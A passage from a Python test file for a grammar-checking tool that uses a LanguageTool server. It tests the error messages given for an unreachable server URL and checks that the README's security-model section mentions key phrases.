    assert f"drop [languagetool] url in {config} to use the managed server" in str(raised.value)
    with pytest.raises(LanguageToolError) as raised:
        LanguageToolService(url="http://127.0.0.1:9").ensure_running()
    assert "drop --languagetool-url to use the managed server" in str(raised.value)


# --------------------------------------------------------------------------- the README


def test_the_readme_has_a_security_model():
    readme = (ROOT / "README.md").read_text(encoding="utf-8")
    section = readme.split("## Security model", 1)[1].split("\n## ", 1)[0]
    for words in ("trusts", "never trusts", "leave the machine", "mtcheck: note: sending article text", "--follow-links",
                  "request_timeout", "another user"):
        assert words in section, words
